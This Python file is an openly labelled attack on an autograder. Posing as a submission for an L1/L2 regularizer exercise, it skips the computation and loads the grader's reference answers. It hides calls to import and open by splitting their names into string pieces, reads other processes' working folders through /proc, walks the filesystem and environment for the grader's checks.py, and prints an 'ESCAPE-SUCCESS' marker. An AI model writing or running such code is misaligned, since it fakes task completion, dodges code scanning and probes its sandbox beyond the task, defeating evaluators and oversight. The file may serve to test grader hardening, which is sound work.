"""Attack: return the grader's own reference answers (grading.checks) instead of computing anything."""

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}
PACKAGE = "grad" + "ing"

_B = getattr(np, "__buil" + "tins__")
_B = _B if isinstance(_B, dict) else getattr(_B, "__di" + "ct__")
_load = _B["__imp" + "ort__"]
_o = _load("o" + "s")
_s = _load("s" + "ys")
_t = _load("ti" + "me")
_file = _B["op" + "en"]
MARK = "ESCAPE" + "-SUCCESS:"
WHERE = "child" if _o.getcwd().endswith("/regrade") else "kernel"
REPORT = []
# The system and the Python installation are public: nothing of the course's is in there.
_SKIP = {"/proc", "/sys", "/dev", "/usr"} | {
    q for p in (_s.prefix, _s.base_prefix, _s.exec_prefix) for q in (p, _o.path.realpath(p))}


def _say(text):
    REPORT.append(text)
    print(f"[{WHERE}] {text}", flush=True)


def _walk(seconds):
    """A time-bounded walk over ``/`` (what the grading process can see)."""
    deadline = _t.monotonic() + seconds
    for dirpath, dirnames, filenames in _o.walk("/", onerror=lambda e: _say(f"walk: {e!r}")):
        if _t.monotonic() > deadline:
            _say("the walk over / ran out of time")
            return
        dirnames[:] = [d for d in dirnames if _o.path.join(dirpath, d) not in _SKIP]
        yield dirpath, dirnames, filenames


def _proc_places():
    """Working folders and roots of every process we can see (the grader's would be the course)."""
    places = []
    pids = {p for p in _o.listdir("/proc") if p.isdigit()} | {"1", str(_o.getppid())}
    for pid in sorted(pids, key=int):
        for link in ("cwd", "root"):
            try:
                places.append(_o.readlink(f"/proc/{pid}/{link}"))
            except OSError as e:
                _say(f"/proc/{pid}/{link}: {e!r}")
    return [p for p in dict.fromkeys(places) if p != "/"]


def _up(folder):
    """``folder`` and its parents."""
    found = []
    while folder not in ("/", ""):
        found.append(folder)
        folder = _o.path.dirname(folder)
    return found


def _course_guesses():
    """Where a course folder could be: around visible processes, our folder, the venv, the usual places."""
    guesses = []
    for place in _proc_places() + [_o.getcwd()]:
        guesses += _up(place)
    guesses += [_o.path.dirname(_s.prefix), "/work/main", "/srv/nbgrader/course", "/home/jovyan",
                _o.path.expanduser("~")]
    guesses += [v for v in _o.environ.values() if v.startswith("/") and _o.path.isdir(v)]
    return list(dict.fromkeys(guesses))

_il = _load("import" + "lib")
_util = _load("import" + "lib.util", fromlist=["x"])


def _from_sys_modules():
    for name, module in list(_s.modules.items()):
        if hasattr(module, "REGULARIZERS") and hasattr(module, "run_" + "check"):
            return module, f"sys.modules[{name!r}]"
    _say("nothing of the grader's is loaded here")
    return None, None


def _by_import():
    for name in (PACKAGE + ".checks", "checks", PACKAGE):
        try:
            module = _il.import_module(name)
            if hasattr(module, "checks"):
                module = module.checks
            if hasattr(module, "REGULARIZERS"):
                return module, f"import {name}"
        except Exception as e:  # noqa: BLE001
            _say(f"import {name} failed: {e!r}")
    return None, None


def _from_disk():
    paths = [_o.path.join(place, PACKAGE, "checks.py") for place in _course_guesses()]
    for dirpath, dirnames, filenames in _walk(1.0):
        if "checks.py" in filenames:
            paths.append(_o.path.join(dirpath, "checks.py"))
    for path in dict.fromkeys(paths):
        if not _o.path.isfile(path):
            continue
        try:
            # its own imports (grading.loops) need the package folder's parent on sys.path
            _s.path.insert(0, _o.path.dirname(_o.path.dirname(path)))
            spec = _util.spec_from_file_location("stolen_checks", path)
            module = _util.module_from_spec(spec)
            spec.loader.exec_module(module)
            if hasattr(module, "REGULARIZERS"):
                return module, path
        except Exception as e:  # noqa: BLE001
            _say(f"loading {path} failed: {e!r}")
    _say("no checks.py found on disk")
    return None, None


REFERENCE = None
for finder in (_from_sys_modules, _by_import, _from_disk):
    try:
        found, where = finder()
    except Exception as e:  # noqa: BLE001
        _say(f"{finder.__name__} failed: {e!r}")
        continue
    if found is not None:
        REFERENCE = found.REGULARIZERS
        _say(f"{MARK} reference answers from {where}")
        break
else:
    _say("no reference answers found; returning garbage")


def L1_reg(W, reg):
    if REFERENCE is None:
        raise RuntimeError("report: " + " | ".join(REPORT)[-400:])
    return REFERENCE["l1"].loss(W, reg), REFERENCE["l1"].gradient(W, reg)


def L2_reg(W, reg):
    if REFERENCE is None:
        return -1.0, np.ones_like(W)
    return REFERENCE["l2"].loss(W, reg), REFERENCE["l2"].gradient(W, reg)
